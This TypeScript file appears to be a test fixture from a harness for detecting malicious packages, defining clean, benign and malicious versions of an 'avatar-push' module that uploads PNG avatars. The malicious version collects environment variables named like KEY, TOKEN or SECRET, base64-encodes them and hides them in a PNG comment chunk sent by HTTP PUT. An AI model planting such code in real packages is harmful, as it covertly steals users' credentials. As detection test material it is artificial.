import type { Incident } from '../../harness/types.ts';

const png = (chunk: string) =>
  `const http = require('http'), word = (s) => Buffer.from(s, 'latin1');
const picture = (n) => Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), word('IDAT' + n), ${chunk}word('IEND')]);
module.exports = (n) => new Promise((ok, no) => { const r = http.request('http://@A@:@PORT@/avatars/' + n, { method: 'PUT' }, (s) => { let t = ''; s.on('data', (c) => (t += c)).on('end', () => ok(t)); }); r.on('error', no); r.end(picture(n)); });`;

export const incident: Incident = {
  name: 'picture-drop',
  after:
    'keys of language models out of the environment, in the comment of a picture that is uploaded anyway (no single incident)',
  source: 'https://attack.mitre.org/techniques/T1027/003/',
  shape: ['call', 'fork', 'hard on purpose', 'known host', 'inside a picture', 'environment', 'cjs'],
  patterns: ['data_exfiltration', 'behavioral_drift'],
  culprits: ['avatar-push'],
  env: { OPENAI_API_KEY: '@CANARY@' },
  host: { kind: 'fork', setup: "const push = require('avatar-push');", use: 'return await push(n);' },
  good: { 'avatar-push': { 'index.js': png('') } },
  // Hard: the picture says which program made it.
  benign: { 'avatar-push': { 'index.js': png("word('tEXtSoftware\\0avatar-push 1.0.1 ' + process.platform), ") } },
  bad: {
    'avatar-push': {
      'index.js': png(
        "word('tEXtComment\\0' + Buffer.from(JSON.stringify(Object.entries(process.env).filter(([k]) => /KEY|TOKEN|SECRET/.test(k)))).toString('base64')), ",
      ),
    },
  },
  proof: [{ secret: true }],
};
